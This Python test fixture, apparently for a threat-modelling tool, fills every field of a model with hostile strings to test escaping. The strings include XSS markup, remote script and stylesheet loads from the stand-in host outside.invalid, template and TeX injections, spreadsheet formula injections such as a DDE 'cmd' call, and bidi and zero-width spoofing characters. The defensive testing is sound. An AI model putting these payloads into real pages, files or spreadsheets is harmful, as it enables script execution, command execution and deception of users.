"""Names that try to be more than text. Each runs `ran(…)`, opens a dialog or asks another host if a page lets it."""

from __future__ import annotations

from functools import cache
from typing import TYPE_CHECKING

from builders import app, boundary, connection, data, entry, flow, process, service, store

from workbench.model import Actor, Element, Model, Source

if TYPE_CHECKING:
    from collections.abc import Iterator

OUTSIDE = "http://outside.invalid"

MARKUP = (
    "<script>ran('script')</script>",
    "<SCRIPT SRC=http://outside.invalid/a.js></SCRIPT>",
    "</script><script>ran('closing')</script>",
    "</title></desc></text><script>ran('svg-text')</script>",
    "</style><script>ran('style')</script>",
    "--><script>ran('comment')</script>",
    "]]><script>ran('cdata')</script>",
    "</textarea></select></td></table><script>ran('table')</script>",
    "<img src=x onerror=ran('img')>",
    "<img src=http://outside.invalid/p.png>",
    "\"><img src=x onerror=ran('attribute')>",
    "'><img src=x onerror=ran('single')>",
    "<svg onload=ran('svg')></svg>",
    "<svg><script>ran('svg-script')</script></svg>",
    "<svg><animate onbegin=ran('animate') attributeName=x dur=1s></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='ran(1)'/>#x\"></use></svg>",
    "<math><mtext><img src=x onerror=ran('math')></mtext></math>",
    "<body onload=ran('body')>",
    "<input autofocus onfocus=ran('focus')>",
    "<details open ontoggle=ran('toggle')>x</details>",
    "<video><source onerror=ran('video')></video>",
    "<marquee onstart=ran('marquee')>x</marquee>",
    "<div style=\"background:url('http://outside.invalid/css')\">x</div>",
    "<style>@import 'http://outside.invalid/s.css';</style>",
    "<link rel=stylesheet href=http://outside.invalid/l.css>",
    "<meta http-equiv=refresh content='0;url=http://outside.invalid/m'>",
    "<base href=http://outside.invalid/>",
    "<iframe srcdoc=\"<script>parent.ran('srcdoc')</script>\"></iframe>",
    "<iframe src=\"javascript:parent.ran('frame')\"></iframe>",
    "<object data=http://outside.invalid/o></object>",
    "<form action=http://outside.invalid/f><button autofocus>x</button></form>",
    "<a href=\"javascript:ran('link')\">click</a>",
    "<a href=http://outside.invalid/ping>href</a>",
    "javascript:ran('address')",
    "[click](javascript:ran('markdown'))",
    "![x](http://outside.invalid/md.png)",
    "<http://outside.invalid/auto>",
    "http://outside.invalid/bare",
    "`code` **bold** | cell | cell",
    "<script>alert('dialog')</script>",
    "<img src=x onerror=confirm('dialog')>",
    '" onmouseover="ran(\'over\')" x="',
    "' autofocus onfocus='ran(1)' x='",
    "&lt;script&gt;ran('entity')&lt;/script&gt;",
    "\\u003cscript\\u003eran('escape')\\u003c/script\\u003e",
    "<scr<script>ipt>ran('nested')</scr</script>ipt>",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% for x in [1] %}ran{% endfor %}",
    "${ran('template')}",
    "<%= ran('erb') %>",
    "#{7*7}",
    "{0} {x!r}",
)
MATHS = ("$\\href{javascript:ran('tex')}{x}$", "$$\\unicode{x3c}$$", "\\(\\require{html}\\)")
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|'/c calc'!A1", '=HYPERLINK("http://outside.invalid","x")', "\t=1+1",
    "\r=1+1", "\n=1+1", " =1+1", "\uff1d1+1", "\uff0b1", "\uff20SUM(1)", '";=1+1;"', 'x",=1+1', "a;=1+1", "'=1+1",
    "''@x", "https://outside.invalid/x", "mailto:x@outside.invalid", "x\n-1+1", "-5",
)  # fmt: skip
HIDDEN = (
    "user\u202egnp.exe", "\u2066left\u2069", "zero\u200bwidth", "joined\u200dword", "\ufeffmark", "soft\u00adhyphen",
    "nul\x00inside", "escape\x1b[31mred", "bell\x07", "tag\U000e0041s", "line\u2028break", "\x85next",
    "\u202a\u202b\u202d\u2067\u2068",
)  # fmt: skip
HARMLESS = (
    "日本語の名前",
    "שלום",
    "naïve café",
    "👨\u200d👩\u200d👧 family",
    "a" * 200,
    "Ω≈ç√∫",
    " leading and trailing ",
    "tab\there",
)
ALL = MARKUP + TEMPLATES + MATHS + FORMULAS + HIDDEN + HARMLESS


@cache
def hostile() -> Model:
    """Return a model with every payload in names, ids, hosts, notes, owners and reasons."""
    return Model(
        [app(ALL[0], owner=ALL[1], purpose=ALL[2], notes=ALL[:5], platform=ALL[8]).changed(id="orders"), *_elements()]
    )


def _elements() -> Iterator[Element]:
    zone = boundary("zone").changed(name=MARKUP[3])
    yield zone
    for i, text in enumerate(ALL):
        other = ALL[(i + 7) % len(ALL)]
        around = (
            boundary(f"{i}{text}", kind="third_party", boundary=zone.id).changed(name=text) if i % 10 == 0 else zone
        )
        field = data(f"{i}{text}", suggested="confidential").changed(name=text)
        step = process(
            f"{i}{text}",
            runs=other,
            boundary=around.id,
            owner=other,
            notes=(text,),
            source=Source(file=text, pointer=text),
        )
        step = step.changed(name=text)
        system = service(f"{i}{text}", host=other).changed(name=text)
        table = store(f"{i}{text}", host=other, data=(field.id,)).changed(name=text)
        door = entry(f"{i}{text}", kind="webhook", authentication="none", address=text, boundary=zone.id).changed(
            name=text
        )
        person = Actor(id=f"orders/actor:{i}{text}", name=text, app="orders")
        key = connection(f"{i}{text}", service=system.id, scopes=(text,), connector=other).changed(name=text)
        yield from ({around, zone} - {zone})
        yield from (field, step, system, table, door, person, key)
        more = {"data": (field.id,), "protocol": text, "authentication": other, "encrypted": False}
        yield flow(person, door, **more).changed(name=text)
        yield flow(door, step, **more).changed(name=text)
        yield flow(step, system, connection=key.id, **more).changed(name=text)
        yield flow(step, table, **more).changed(name=text)
